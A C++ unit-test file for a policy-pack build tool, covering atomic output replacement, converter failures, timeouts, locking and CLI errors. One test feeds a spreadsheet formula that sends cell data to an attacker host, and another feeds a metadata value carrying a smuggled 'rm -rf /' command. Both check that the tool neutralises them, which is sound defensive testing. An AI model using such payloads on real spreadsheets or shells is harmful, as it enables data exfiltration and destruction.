#include "emit/pack_writer.h"

#include <gtest/gtest.h>

#include <fcntl.h>
#include <sys/file.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "base/file_system.h"
#include "emit/pandoc_runner.h"
#include "emit/weasyprint_renderer.h"
#include "emit/zip_archive.h"
#include "support/fake_converter.h"
#include "support/test_support.h"

namespace policyc::emit {
namespace {

namespace fs = std::filesystem;
using testing::FakeConverter;

/// The bytes of a zip of `entries`, as a converter would write it.
std::string ZipBytes(const std::string& dir, const ZipEntries& entries) {
  std::string error;
  EXPECT_TRUE(WriteZip(dir + "/made.zip", entries, 0, &error)) << error;
  return testing::ReadFileOrEmpty(dir + "/made.zip");
}

model::ResolvedPack SmallPack() {
  model::ResolvedPack pack;
  pack.profile_id = "org";
  pack.as_of = "2026-11-01";
  pack.organisation.name = "Org";
  model::ResolvedDocument doc;
  doc.id = "policy";
  doc.title = "Policy";
  doc.kind = "policy";
  pack.documents.push_back(doc);
  model::SoaRow row;
  row.control = "A.5.1";
  row.title = "Policies for information security";
  row.justification = "Required, and implemented";
  row.status = "planned";
  row.implemented_by = {"policy#one", "policy#two"};
  pack.soa.push_back(row);
  return pack;
}

/// Whether no staging folder of the pack "org" is left in `out`.
bool NoStagingLeft(const std::string& out) {
  for (const auto& entry : fs::directory_iterator(out)) {
    if (entry.path().filename().string().rfind(".org.staging", 0) == 0) return false;
  }
  return true;
}

class EmitPackWriter : public ::testing::Test {
 protected:
  void SetUp() override {
    out_ = testing::MakeTempDir();
    base::DiskFileSystem fs;
    auto templates = render::LoadTemplates(fs, testing::SourceDir() + "/templates", sink_);
    ASSERT_TRUE(templates.has_value());
    templates_ = *templates;
    fs::create_directories(out_ + "/org");
    std::ofstream(out_ + "/org/keep.txt") << "the user's previous pack";
  }
  void TearDown() override { fs::remove_all(out_); }

  std::string out_;
  base::DiagnosticSink sink_;
  render::Templates templates_;
};

TEST_F(EmitPackWriter, AFailedConversionLeavesThePreviousPackUntouched) {
  BuildOptions options;
  options.out_dir = out_;
  options.formats = {Format::kHtml, Format::kDocx};
  // A "pandoc" that fails every conversion.
  FakeConverter failing(FakeConverter::Fails("pandoc exited with status 64: pandoc: cannot parse input"));
  EXPECT_FALSE(WritePack(SmallPack(), templates_, options, failing, sink_));
  EXPECT_EQ(testing::Formatted(sink_),
            "policyc: error: making docx/policy.docx failed: pandoc exited with status 64: pandoc: "
            "cannot parse input; the previous pack was left as it was [emit.tool-failed]\n");
  EXPECT_TRUE(fs::exists(out_ + "/org/keep.txt"));
  EXPECT_FALSE(fs::exists(out_ + "/org/index.html"));
  EXPECT_TRUE(NoStagingLeft(out_));
}

TEST_F(EmitPackWriter, ASuccessfulBuildReplacesThePackWhole) {
  BuildOptions options;
  options.out_dir = out_;
  options.formats = {Format::kHtml};
  FakeConverter unused(FakeConverter::Fails("nothing is converted for HTML"));
  EXPECT_TRUE(WritePack(SmallPack(), templates_, options, unused, sink_));
  EXPECT_EQ(unused.conversions(), 0);
  EXPECT_FALSE(fs::exists(out_ + "/org/keep.txt"));
  EXPECT_TRUE(fs::exists(out_ + "/org/index.html"));
  EXPECT_TRUE(fs::exists(out_ + "/org/policy.html"));
  EXPECT_TRUE(fs::exists(out_ + "/org/pack.json"));
  EXPECT_EQ(testing::ReadFileOrEmpty(out_ + "/org/soa.csv"),
            "control,title,applicable,justification,status,owner,implemented_by\n"
            "A.5.1,Policies for information security,yes,\"Required, and implemented\",planned,,policy#one policy#two\n");
  EXPECT_FALSE(fs::exists(out_ + "/org/docx"));
}

// Issue 14, point 11: soa.csv holds no live formula.
TEST_F(EmitPackWriter, SoaCsvNeutralisesFormulas) {
  model::ResolvedPack pack = SmallPack();
  pack.soa[0].applicable = false;
  pack.soa[0].justification = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")";
  pack.soa[0].title = "@SUM(1+1)";
  BuildOptions options;
  options.out_dir = out_;
  options.formats = {Format::kHtml};
  FakeConverter unused(FakeConverter::Fails("nothing is converted for HTML"));
  ASSERT_TRUE(WritePack(pack, templates_, options, unused, sink_));
  EXPECT_EQ(testing::ReadFileOrEmpty(out_ + "/org/soa.csv"),
            "control,title,applicable,justification,status,owner,implemented_by\n"
            "A.5.1,\"'@SUM(1+1)\",no,\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"Click\"\")\",excluded,,"
            "policy#one policy#two\n");
}

TEST_F(EmitPackWriter, ARebuildWithNothingChangedRunsNoProgram) {
  // The same converter throughout (so the same tool fingerprint); from the
  // second build on it fails, but it must not be run when nothing changed.
  FakeConverter runner(FakeConverter::Writes(ZipBytes(
      out_, {{"word/document.xml", "converted"},
             {"word/settings.xml",
              "<w:settings><w:zoom w:percent=\"100\" /><w:updateFields w:val=\"true\" /></w:settings>"}})));
  const auto writes = FakeConverter::Writes(ZipBytes(out_, {{"word/document.xml", "converted"}}));
  auto fail_from_now_on = [&](bool on) {
    runner.SetBehaviour(on ? FakeConverter::Fails("pandoc exited with status 1") : writes);
  };
  BuildOptions options;
  options.out_dir = out_;
  options.formats = {Format::kHtml, Format::kDocx};
  BuildStats stats;
  ASSERT_TRUE(WritePack(SmallPack(), templates_, options, runner, sink_, &stats))
      << testing::Formatted(sink_);
  EXPECT_EQ(stats.converted, 1);
  EXPECT_EQ(stats.reused, 0);
  fail_from_now_on(true);
  // Same inputs: the failing "pandoc" is never run, the output is reused.
  ASSERT_TRUE(WritePack(SmallPack(), templates_, options, runner, sink_, &stats))
      << testing::Formatted(sink_);
  EXPECT_EQ(stats.converted, 0);
  EXPECT_EQ(stats.reused, 1);
  EXPECT_EQ(runner.conversions(), 1);
  std::string error;
  auto docx = ReadZip(out_ + "/org/docx/policy.docx", &error);
  ASSERT_TRUE(docx.has_value()) << error;
  EXPECT_EQ((*docx)[0].second, "converted");
  // The DOCX is finished (ooxml_package.h): Word is not asked to update fields on open.
  EXPECT_EQ((*docx)[1].second,
            "<w:settings><w:zoom w:percent=\"100\" /></w:settings>");
  // A changed document must be converted again.
  auto changed = SmallPack();
  changed.documents[0].title = "Policy, revised";
  EXPECT_FALSE(WritePack(changed, templates_, options, runner, sink_, &stats));
  // A tampered output is not trusted either.
  std::ofstream(out_ + "/org/docx/policy.docx") << "edited by hand";
  EXPECT_FALSE(WritePack(SmallPack(), templates_, options, runner, sink_, &stats));
  fail_from_now_on(false);
  EXPECT_TRUE(WritePack(SmallPack(), templates_, options, runner, sink_, &stats));
  EXPECT_EQ(stats.converted, 1);
  EXPECT_EQ(runner.conversions(), 4);
}

// Issue 14, point 6: a converter that fails quietly. Each fake "pandoc"
// exits 0; the build must still fail, name the document, keep the previous
// pack and leave no staging folder.
class EmitQuietFailure : public EmitPackWriter {
 protected:
  void ExpectBuildFails(const Converter& pandoc, Format format, const std::string& message) {
    BuildOptions options;
    options.out_dir = out_;
    options.formats = {Format::kHtml, format};
    EXPECT_FALSE(WritePack(SmallPack(), templates_, options, pandoc, sink_));
    EXPECT_EQ(testing::Formatted(sink_), message);
    EXPECT_TRUE(fs::exists(out_ + "/org/keep.txt"));
    EXPECT_FALSE(fs::exists(out_ + "/org/index.html"));
    EXPECT_TRUE(NoStagingLeft(out_));
  }
};

TEST_F(EmitQuietFailure, APandocThatExitsZeroWithoutOutputFailsTheBuild) {
  ExpectBuildFails(FakeConverter(FakeConverter::WritesNothing()), Format::kDocx,
                   "policyc: error: making docx/policy.docx failed: pandoc reported success but wrote no file; "
                   "the previous pack was left as it was [emit.tool-failed]\n");
}

TEST_F(EmitQuietFailure, APandocThatWritesAnEmptyPdfFailsTheBuild) {
  ExpectBuildFails(FakeConverter(FakeConverter::Writes("")), Format::kPdf,
                   "policyc: error: making pdf/policy.pdf failed: pandoc reported success but wrote an empty file; "
                   "the previous pack was left as it was [emit.tool-failed]\n");
}

TEST_F(EmitQuietFailure, APdfThatIsNotAPdfFailsTheBuild) {
  ExpectBuildFails(FakeConverter(FakeConverter::Writes("<html>not a pdf</html>\n")), Format::kPdf,
                   "policyc: error: making pdf/policy.pdf failed: pandoc reported success but wrote a file that is "
                   "not a PDF; the previous pack was left as it was [emit.tool-failed]\n");
}

TEST_F(EmitQuietFailure, AFileThatIsNotAZipIsNotADocx) {
  ExpectBuildFails(FakeConverter(FakeConverter::Writes("plain text\n")), Format::kDocx,
                   "policyc: error: making docx/policy.docx failed: pandoc reported success but wrote a file that is "
                   "not a DOCX (cannot open '" + out_ + "/.org.staging-" + std::to_string(getpid()) +
                       "/docx/policy.docx' as a zip file: Not a zip "
                   "archive); the previous pack was left as it was [emit.tool-failed]\n");
}

TEST_F(EmitQuietFailure, AZipThatIsNotADocxFailsTheBuild) {
  ExpectBuildFails(FakeConverter(FakeConverter::Writes(ZipBytes(out_, {{"hello.txt", "not a document"}}))),
                   Format::kDocx,
                   "policyc: error: making docx/policy.docx failed: pandoc reported success but wrote a zip without "
                   "word/document.xml, which is not a DOCX; the previous pack was left as it was "
                   "[emit.tool-failed]\n");
}

/// SmallPack with `n` documents.
model::ResolvedPack PackOf(int n) {
  model::ResolvedPack pack = SmallPack();
  for (int i = 1; i < n; ++i) {
    model::ResolvedDocument doc = pack.documents[0];
    doc.id = "policy-" + std::to_string(i);
    pack.documents.push_back(doc);
  }
  return pack;
}

// Issue 14, point 7: after the first timeout no more conversions with that
// tool start, and the build fails in seconds, not once per document.
TEST_F(EmitQuietFailure, APandocThatHangsIsNotStartedAgain) {
  FakeConverter quick(FakeConverter::WritesNothing());
  quick.HangFromNowOn(std::chrono::seconds(1));  // then stopped at its time limit
  BuildOptions options;
  options.out_dir = out_;
  options.formats = {Format::kHtml, Format::kDocx};
  options.jobs = 1;
  const auto start = std::chrono::steady_clock::now();
  EXPECT_FALSE(WritePack(PackOf(3), templates_, options, quick, sink_));
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(10));
  EXPECT_EQ(quick.conversions(), 1);
  const std::string said = testing::Formatted(sink_);
  EXPECT_NE(said.find("failed: pandoc took longer than 1 seconds and was stopped; the previous pack was left as it "
                      "was [emit.tool-failed]\n"),
            std::string::npos)
      << said;
  EXPECT_NE(said.find("policyc: error: 2 other conversion(s) were not started, because pandoc did not finish in "
                      "time once already [emit.tool-failed]\n"),
            std::string::npos)
      << said;
  EXPECT_TRUE(fs::exists(out_ + "/org/keep.txt"));
  EXPECT_TRUE(NoStagingLeft(out_));
}

// Issue 14, point 7: build --deadline stops the conversions still running.
TEST_F(EmitQuietFailure, TheDeadlineStopsRunningConversions) {
  FakeConverter hanging(FakeConverter::WritesNothing());
  hanging.HangFromNowOn(std::chrono::seconds(60));  // until the deadline stops it
  BuildOptions options;
  options.out_dir = out_;
  options.formats = {Format::kHtml, Format::kDocx};
  options.jobs = 2;
  options.deadline = std::chrono::steady_clock::now() + std::chrono::seconds(1);
  const auto start = std::chrono::steady_clock::now();
  EXPECT_FALSE(WritePack(PackOf(2), templates_, options, hanging, sink_));
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(15));
  EXPECT_EQ(testing::Formatted(sink_),
            "policyc: error: the build's deadline passed with 2 conversion(s) unfinished; the previous pack was "
            "left as it was [emit.tool-failed]\n");
  EXPECT_TRUE(fs::exists(out_ + "/org/keep.txt"));
  EXPECT_TRUE(NoStagingLeft(out_));
}

// Issue 14, point 8: a second build of the same pack into the same folder
// fails at once with a clear message and touches nothing.
TEST_F(EmitPackWriter, ASecondBuildIntoTheSameFolderFailsWhileTheFirstRuns) {
  const int held = open((out_ + "/.org.lock").c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0644);
  ASSERT_EQ(flock(held, LOCK_EX | LOCK_NB), 0);  // "the first build"
  BuildOptions options;
  options.out_dir = out_;
  options.formats = {Format::kHtml};
  FakeConverter unused(FakeConverter::Fails("nothing is converted for HTML"));
  EXPECT_FALSE(WritePack(SmallPack(), templates_, options, unused, sink_));
  EXPECT_EQ(testing::Formatted(sink_),
            out_ + "/org: error: another policyc build is writing this pack now; wait for it to finish, or build "
                   "into another folder with -o [emit.output-error]\n");
  EXPECT_TRUE(fs::exists(out_ + "/org/keep.txt"));
  close(held);
  EXPECT_TRUE(WritePack(SmallPack(), templates_, options, unused, sink_));  // once the first is done
  EXPECT_TRUE(fs::exists(out_ + "/org/index.html"));
}

// Issue 14, point 13: a build killed between the two renames of the swap
// left the previous pack at .org.old; the next build puts it back first.
TEST_F(EmitPackWriter, APackLeftAsideByAKilledSwapIsRecovered) {
  fs::rename(out_ + "/org", out_ + "/.org.old");
  fs::create_directories(out_ + "/.org.staging-1/docx");  // and a killed build's staging folder
  BuildOptions options;
  options.out_dir = out_;
  options.formats = {Format::kHtml, Format::kDocx};
  FakeConverter failing(FakeConverter::Fails("pandoc exited with status 1"));
  EXPECT_FALSE(WritePack(SmallPack(), templates_, options, failing, sink_));
  EXPECT_TRUE(fs::exists(out_ + "/org/keep.txt"));
  EXPECT_FALSE(fs::exists(out_ + "/.org.old"));
  EXPECT_TRUE(NoStagingLeft(out_));
}

// Issue 14, point 13: a regular file where the pack goes is refused, not deleted.
TEST_F(EmitPackWriter, ARegularFileWhereThePackGoesIsRefusedNotDeleted) {
  fs::remove_all(out_ + "/org");
  std::ofstream(out_ + "/org") << "the user's notes";
  BuildOptions options;
  options.out_dir = out_;
  options.formats = {Format::kHtml};
  FakeConverter unused(FakeConverter::Fails("nothing is converted for HTML"));
  EXPECT_FALSE(WritePack(SmallPack(), templates_, options, unused, sink_));
  EXPECT_EQ(testing::Formatted(sink_),
            out_ + "/org: error: this is a file, not a pack folder; policyc will not replace it. Move it away or "
                   "build into another folder with -o [emit.output-error]\n");
  EXPECT_EQ(testing::ReadFileOrEmpty(out_ + "/org"), "the user's notes");
  EXPECT_TRUE(NoStagingLeft(out_));
}

/// A WeasyPrint "worker" that is a shell script run by /bin/sh.
std::string FakeWorker(const std::string& dir, const std::string& body) {
  const std::string script = dir + "/fake-worker.sh";
  std::ofstream(script) << body << "\n";
  return script;
}

TEST_F(EmitPackWriter, AWorkerAnsweringOkFalseWithANumberAsErrorFailsCleanly) {
  WeasyPrintRenderer renderer("/bin/sh", FakeWorker(out_, "read x; echo '{\"ok\": false, \"error\": 5}'; sleep 5"),
                              "0", out_, std::chrono::seconds(10));
  std::string error;
  EXPECT_FALSE(renderer.Render(out_ + "/a.html", out_ + "/a.pdf", &error));
  EXPECT_EQ(error, "WeasyPrint failed: it gave no reason");
}

TEST_F(EmitPackWriter, AWorkerAnswersAreCheckedForType) {
  std::string error;
  EXPECT_TRUE(WeasyPrintRenderer::ReadAnswer("{\"ok\": true}", &error));
  EXPECT_FALSE(WeasyPrintRenderer::ReadAnswer("{\"ok\": \"yes\"}", &error));
  EXPECT_EQ(error, "WeasyPrint answered something that is not policyc's protocol: {\"ok\": \"yes\"}");
  EXPECT_FALSE(WeasyPrintRenderer::ReadAnswer("[1, 2]", &error));
  EXPECT_FALSE(WeasyPrintRenderer::ReadAnswer("{\"ok\": false, \"error\": \"no fonts\"}", &error));
  EXPECT_EQ(error, "WeasyPrint failed: no fonts");
}

TEST_F(EmitPackWriter, AWorkerThatClosesItsStdinFailsWithoutKillingPolicyc) {
  WeasyPrintRenderer renderer("/bin/sh", FakeWorker(out_, "exec 0<&-; sleep 1; exit 0"), "0", out_,
                              std::chrono::seconds(10));
  std::string error;
  // Twice: the first request may still fit in the pipe before the worker
  // closes it; then its end of output ends the request.
  EXPECT_FALSE(renderer.Render(out_ + "/a.html", out_ + "/a.pdf", &error));
  EXPECT_FALSE(error.empty());
  EXPECT_FALSE(renderer.Render(out_ + "/a.html", out_ + "/a.pdf", &error));
  EXPECT_FALSE(error.empty());
}

TEST_F(EmitPackWriter, ConversionsRunPandocWithAnArgvAndWeasyPrintForPdf) {
  PandocRunner pandoc("pandoc");
  ConversionRequest request;
  request.input_path = "in.html";
  request.to = "pdf";
  request.output_path = "out dir/x.pdf";
  request.css = {"print.css"};
  request.metadata = {{"pagetitle", "A; rm -rf /"}};
  EXPECT_EQ(pandoc.Argv(request),
            (std::vector<std::string>{"pandoc", "--from=html", "--to=html5", "--standalone",
                                      "--output=out dir/x.pdf", "--pdf-engine=weasyprint",
                                      "--css=print.css", "--wrap=none", "--metadata=pagetitle:A; rm -rf /",
                                      "in.html"}));
}

TEST_F(EmitPackWriter, SaysWhenPandocIsMissing) {
  PandocRunner missing("policyc-no-such-pandoc");
  std::string why;
  EXPECT_FALSE(missing.CanConvert("docx", &why));
  EXPECT_EQ(why, "Pandoc is not installed, so docx cannot be made; install it (apt-get install "
                 "pandoc) or build with --format html");
}

TEST(EmitPandoc, RefusesPandocOlderThanTwoNine) {
  EXPECT_EQ(PandocRunner::CheckVersion("pandoc 2.17.1.1"), "");
  EXPECT_EQ(PandocRunner::CheckVersion("pandoc 3.1"), "");
  EXPECT_EQ(PandocRunner::CheckVersion("pandoc 2.5"),
            "pandoc 2.5 is too old; policyc needs Pandoc 2.9 or newer (Debian 12's pandoc is 2.17)");
  EXPECT_EQ(PandocRunner::CheckVersion("something else"), "cannot tell which Pandoc this is ('something else')");
}

TEST(EmitEpoch, ConvertsDatesForSourceDateEpoch) {
  EXPECT_EQ(EpochOf("1970-01-01"), "0");
  EXPECT_EQ(EpochOf("2026-11-01"), "1793491200");
}

TEST(EmitCli, MissingPandocStillBuildsHtmlAndExitsTwo) {
  const std::string out = testing::MakeTempDir();
  auto result = testing::RunPolicyc(
      {"build", "--base-library", "tests/data/mini", "tests/data/mini-org", "-o", out,
       "--format", "html,docx"},
      {{"PATH", "/nonexistent"}});
  EXPECT_EQ(result.exit_code, 2);
  // The diagnostics and their count first, then the result line.
  EXPECT_EQ(result.errors,
            "policyc: error: Pandoc is not installed, so docx cannot be made; install it "
            "(apt-get install pandoc) or build with --format html [emit.tool-missing]\n"
            "policyc: 1 error, 0 warnings\n"
            "policyc: wrote " + out + "/mini-org (10 documents; 0 converted, 0 unchanged)\n");
  EXPECT_TRUE(fs::exists(out + "/mini-org/index.html"));
  EXPECT_FALSE(fs::exists(out + "/mini-org/docx"));
  fs::remove_all(out);
}

// Issue 14, point 13: `-o ""` and `init ""` are usage errors, not an
// uncaught filesystem_error.
TEST(EmitCli, AnEmptyOutputOrInitFolderIsAUsageError) {
  for (const std::vector<std::string>& args :
       {std::vector<std::string>{"build", "--base-library", "tests/data/mini", "tests/data/mini-org", "-o", "",
                                 "--format", "html"},
        std::vector<std::string>{"init", ""}}) {
    auto result = testing::RunPolicyc(args);
    EXPECT_EQ(result.exit_code, 2) << args[0];
    EXPECT_NE(result.errors.find("a folder name cannot be empty"), std::string::npos) << result.errors;
    EXPECT_EQ(result.errors.find("filesystem_error"), std::string::npos) << result.errors;
  }
}

}  // namespace
}  // namespace policyc::emit
